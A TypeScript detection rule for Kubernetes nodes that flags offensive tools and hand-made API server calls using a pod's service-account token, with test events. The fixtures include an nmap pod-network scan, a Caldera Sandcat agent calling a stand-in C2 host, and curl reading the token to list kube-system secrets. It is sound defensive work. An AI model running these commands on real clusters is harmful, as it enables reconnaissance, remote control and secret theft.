import { type NodeEvent, NodeEventType } from '../../../node/nodeEvent';
import { falcoAlertEvent, processExecEvent } from '../../../node/exampleNodeEvents';
import { type DetectionContext, defaultDetectionContext } from '../../detectionContext';
import { commandLineOf, nodeDedupKey, nodeEventEntities } from '../../nodeEntities';
import {
  argumentList,
  baseName,
  findProcessInList,
  isExec,
  isExecProbe,
  isInContainer,
  isShell,
  isSystemWorkload,
  parsedCommands,
  processName,
} from '../../predicates/nodeProcesses';
import { defineNodeRule, Intent, type Severity as SeverityType, Severity } from '../../rule';

const ToolKind = { attackTool: 'attack tool', caldera: 'MITRE Caldera agent', kubernetesApi: 'Kubernetes API request' } as const;
type ToolKind = (typeof ToolKind)[keyof typeof ToolKind];

interface ToolFinding {
  kind: ToolKind;
  tool: string;
}

/** Container-escape and Kubernetes attack toolkits: running one inside a pod is an attack on the cluster itself. */
const KUBERNETES_TOOLKIT = /^(?:peirates|kube-?hunter|kubeletctl|cdk(?:_linux_\w+)?|deepce.*|amicontained|botb|kdigger|kubesploit.*|ctrsploit|kubestroyer)$/i;

/** Interpreters that run a tool shipped as a script (`sh linpeas.sh`, `python3 kube-hunter.py`). */
const SCRIPT_RUNNER = /^(?:python[\d.]*|perl|ruby|node)$/i;

/** Caldera's Sandcat agent: `./splunkd -server http://c2:8888 -group red -v` (the default deploy command renames it). */
const SANDCAT_ARGUMENTS = /(?:^|\s)-server\s+(?:https?:\/\/)?\S+/i;
const SANDCAT_GROUP = /(?:^|\s)-group\s+\S+/i;

/** The in-cluster API server, as a pod addresses it. */
const API_SERVER_REFERENCE = /kubernetes\.default(?:\.svc(?:\.cluster\.local)?)?\b|\$\{?KUBERNETES_SERVICE_HOST\b|\$\{?KUBERNETES_PORT(?:_443_TCP(?:_ADDR)?)?\b/i;
/** The pod's service-account token or CA, or a bearer token: the request is authenticated as the pod. */
const SERVICE_ACCOUNT_CREDENTIAL = /\/(?:var\/)?run\/secrets\/kubernetes\.io\/serviceaccount\/(?:token|ca\.crt)\b|\bAuthorization:\s*Bearer\b/i;
/** The service-account CA bundle: only the API server's certificate is checked against it. */
const SERVICE_ACCOUNT_CA = /\/serviceaccount\/ca\.crt\b/;
/** kubectl options that point it somewhere by hand or test permissions: not how in-cluster controllers use it. */
const HAND_MADE_KUBECTL = /(?:^|\s)(?:--token(?:=|\s)|--server(?:=|\s)|-s\s+https?:|--insecure-skip-tls-verify\b)|(?:^|\s)auth\s+can-i\b/i;

/** The script or program a shell or interpreter runs (`sh ./linpeas.sh` -> `linpeas.sh`). */
function scriptOf(event: NodeEvent, context: DetectionContext): string | undefined {
  const process = event.process;
  if (!isShell(process, context) && !SCRIPT_RUNNER.test(processName(process))) return undefined;
  const script = argumentList(process).find((arg) => !arg.startsWith('-'));
  return script === undefined ? undefined : baseName(script);
}

function toolFinding(event: NodeEvent, context: DetectionContext): ToolFinding | undefined {
  const process = event.process;
  const listed = findProcessInList(process, context.lists.attackToolBinaries);
  if (listed !== undefined) return { kind: /^sandcat/i.test(listed) ? ToolKind.caldera : ToolKind.attackTool, tool: processName(process) };
  const script = scriptOf(event, context);
  if (script !== undefined && context.lists.attackToolBinaries.matches(script)) return { kind: ToolKind.attackTool, tool: script };
  const args = process.arguments;
  if (SANDCAT_ARGUMENTS.test(args) && SANDCAT_GROUP.test(args)) return { kind: ToolKind.caldera, tool: processName(process) };
  if (!isInContainer(event)) return undefined;
  for (const command of parsedCommands(process, context)) {
    const name = command.lowerName;
    if (name !== 'curl' && name !== 'wget' && name !== 'kubectl') continue;
    const rest = command.words.slice(1).join(' ');
    if ((name === 'curl' || name === 'wget') && SERVICE_ACCOUNT_CREDENTIAL.test(rest) && (API_SERVER_REFERENCE.test(rest) || SERVICE_ACCOUNT_CA.test(rest))) {
      return { kind: ToolKind.kubernetesApi, tool: name };
    }
    if (name === 'kubectl' && HAND_MADE_KUBECTL.test(rest)) return { kind: ToolKind.kubernetesApi, tool: name };
  }
  return undefined;
}

/** Falco's broad network-tool rules (nc, dig, tcpdump, nmap ...) count, but at Low: most of those tools are dual-use. */
const FALCO_NETWORK_TOOL_RULES: ReadonlySet<string> = new Set(['Launch Suspicious Network Tool in Container', 'Launch Suspicious Network Tool on Host']);

function severityOf(event: NodeEvent, context: DetectionContext): SeverityType {
  if (event.falco !== undefined) return FALCO_NETWORK_TOOL_RULES.has(event.falco.rule) ? Severity.Low : Severity.Medium;
  const finding = toolFinding(event, context);
  if (finding?.kind === ToolKind.caldera) return Severity.High;
  if (finding !== undefined && isInContainer(event) && KUBERNETES_TOOLKIT.test(finding.tool.replace(/\.(?:sh|py)$/, ''))) return Severity.High;
  return Severity.Medium;
}

const alertTypes: Readonly<Record<ToolKind, string>> = {
  [ToolKind.attackTool]: 'K8S.NODE_KnownLinuxAttackTool',
  [ToolKind.caldera]: 'K8S.NODE_MitreCalderaTools',
  [ToolKind.kubernetesApi]: 'K8S.NODE_KubernetesAPI',
};
const displayNames: Readonly<Record<ToolKind, string>> = {
  [ToolKind.attackTool]: 'Attack tool executed',
  [ToolKind.caldera]: 'MITRE Caldera agent executed',
  [ToolKind.kubernetesApi]: 'Suspicious request to the Kubernetes API from a container',
};

/** The kind of a finding for its alert type and name, which get no context: judged with the built-in lists. */
function kindOf(event: NodeEvent): ToolKind {
  if (event.falco !== undefined) return ToolKind.attackTool;
  return toolFinding(event, defaultDetectionContext)?.kind ?? ToolKind.attackTool;
}

const app = { namespace: 'shop', name: 'api-5b6c7d8e9f-k3j2h', container: 'api', image: 'contoso.azurecr.io/shop/api:2.14.0' };

export const attackToolExecuted = defineNodeRule({
  id: 'attack-tool-executed',
  alertType: 'K8S.NODE_KnownLinuxAttackTool',
  displayName: 'Attack tool executed',
  description:
    'A known offensive tool ran on a node or in a container: a network scanner or brute forcer (nmap, masscan, zmap, hydra, ' +
    'sqlmap), a privilege-escalation script (linpeas, LinEnum), a Kubernetes or container-escape toolkit (peirates, kube-hunter, ' +
    'kubeletctl, CDK, deepce, amicontained, BOtB), a tunnel (chisel, frp, ligolo) or a command-and-control agent (MITRE ' +
    "Caldera's Sandcat, Sliver, Metasploit). A container that calls the Kubernetes API by hand with its service-account token " +
    '(curl to kubernetes.default with the token file, kubectl with --token or auth can-i) is reported the same way, as ' +
    "Defender's K8S.NODE_KubernetesAPI: it is how an intruder finds out what the pod's identity may do.",
  severity: Severity.Medium,
  severityFor: severityOf,
  alertTypeFor: (event) => alertTypes[kindOf(event)],
  displayNameFor: (event) => displayNames[kindOf(event)],
  intent: Intent.Execution,
  techniques: ['T1046', 'T1110', 'T1613', 'T1611', 'T1572', 'T1219', 'T1552.007'],
  remediation: [
    'Find who started the tool (the parent process, an exec session in the audit log) and whether it was an authorised test.',
    'If not authorised, treat the pod or node as compromised: isolate it, collect evidence, delete it, rotate its service-account token and the credentials it could read.',
    "Review what the pod's service account may do (`kubectl auth can-i --list --as system:serviceaccount:<ns>:<sa>`) and reduce it; disable token automounting where the API is not needed.",
  ],
  falsePositives: [
    'Authorised penetration tests, red-team exercises (Caldera) and security scans run from the cluster.',
    'Operators that call the API server with curl from scripts (prefer a client library with in-cluster configuration).',
  ],
  references: [
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
    'https://attack.mitre.org/techniques/T1613/',
    'https://github.com/inguardians/peirates',
    'https://caldera.readthedocs.io/en/latest/Basic-Usage.html#agents',
  ],
  equivalents: {
    defender: ['K8S.NODE_KnownLinuxAttackTool', 'K8S.NODE_MitreCalderaTools', 'K8S.NODE_KubernetesAPI'],
    falco: [...FALCO_NETWORK_TOOL_RULES],
    guardDuty: ['Execution:Runtime/SuspiciousTool'],
    elastic: ['Potential Linux Hack Tool Launched', 'Suspicious Network Tool Launched Inside A Container'],
  },
  eventTypes: [NodeEventType.processExec],
  match: (event, context) => isExec(event) && !isExecProbe(event) && !isSystemWorkload(event, context) && toolFinding(event, context) !== undefined,
  entities: (event) => nodeEventEntities(event),
  details: (event, context) => {
    const finding = toolFinding(event, context);
    return {
      command: commandLineOf(event.process),
      ...(finding === undefined ? {} : { tool: finding.tool, kind: finding.kind }),
      ...(event.falco === undefined ? {} : { falcoRule: event.falco.rule }),
    };
  },
  dedupKey: (event, context) => nodeDedupKey(event, toolFinding(event, context)?.tool ?? event.falco?.rule ?? ''),
  examples: [
    {
      name: 'nmap scans the pod network from an application container',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/nmap', arguments: '-sS -p 10250,10255,2379,6443 10.244.0.0/16', pod: app, parent: { binary: '/bin/sh', arguments: '' } }),
    },
    {
      name: 'peirates in a pod (Kubernetes penetration toolkit)',
      expect: 'alert',
      event: processExecEvent({ binary: '/tmp/peirates', arguments: '', cwd: '/tmp', pod: app, parent: { binary: '/bin/bash', arguments: '' } }),
    },
    {
      name: 'linpeas run by sh after a download',
      expect: 'alert',
      event: processExecEvent({ binary: '/bin/sh', arguments: './linpeas.sh -a', cwd: '/tmp', pod: app, parent: { binary: '/bin/bash', arguments: '' } }),
    },
    {
      name: "Caldera's Sandcat agent renamed splunkd",
      expect: 'alert',
      event: processExecEvent({ binary: '/tmp/splunkd', arguments: '-server http://203.0.113.77:8888 -group red -v', cwd: '/tmp', pod: null, parent: { binary: '/bin/bash', arguments: '', pod: null } }),
    },
    {
      name: 'curl lists secrets from the API server with the service-account token',
      expect: 'alert',
      event: processExecEvent({
        binary: '/bin/sh',
        arguments:
          '-c "curl -sk -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"',
        pod: app,
      }),
    },
    {
      name: 'kubectl auth can-i --list run from /tmp in an application container',
      expect: 'alert',
      event: processExecEvent({ binary: '/tmp/kubectl', arguments: 'auth can-i --list', pod: app, parent: { binary: '/bin/bash', arguments: '' } }),
    },
    {
      name: 'Falco: Launch Suspicious Network Tool in Container (nmap)',
      expect: 'alert',
      event: falcoAlertEvent({
        rule: 'Launch Suspicious Network Tool in Container',
        outputFields: { 'proc.cmdline': 'nmap -sn 10.244.1.0/24', 'proc.exepath': '/usr/bin/nmap', 'proc.name': 'nmap', 'proc.pname': 'bash' },
        tags: ['maturity_incubating', 'container', 'network', 'process', 'mitre_execution', 'T1059'],
      }),
    },
    {
      name: 'an Argo CD hook applies manifests with in-cluster kubectl',
      expect: 'none',
      event: processExecEvent({
        binary: '/usr/local/bin/kubectl',
        arguments: 'apply -f /manifests/',
        pod: { namespace: 'argocd', name: 'db-migrate-hook-x7k2p', container: 'kubectl', image: 'docker.io/bitnami/kubectl:1.30', workload: 'db-migrate-hook', workloadKind: 'Job' },
      }),
    },
    {
      name: 'curl calls an application API with a bearer token (not the API server)',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/bin/curl', arguments: '-s -H "Authorization: Bearer abc123" https://orders.shop.svc.cluster.local/api/v1/orders', pod: app }),
    },
    {
      name: 'a Vault init script logs in with the service-account token (not the API server)',
      expect: 'none',
      event: processExecEvent({
        binary: '/bin/sh',
        arguments: `-c "curl -s --request POST --data '{"role": "orders", "jwt": "'$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)'"}' https://vault.vault.svc:8200/v1/auth/kubernetes/login"`,
        pod: app,
      }),
    },
    {
      name: 'the real splunkd starts on a host',
      expect: 'none',
      event: processExecEvent({ binary: '/opt/splunkforwarder/bin/splunkd', arguments: '-p 8089 start', pod: null }),
    },
    {
      name: 'dig resolves a service name',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/bin/dig', arguments: '+short orders.shop.svc.cluster.local', pod: app }),
    },
  ],
});
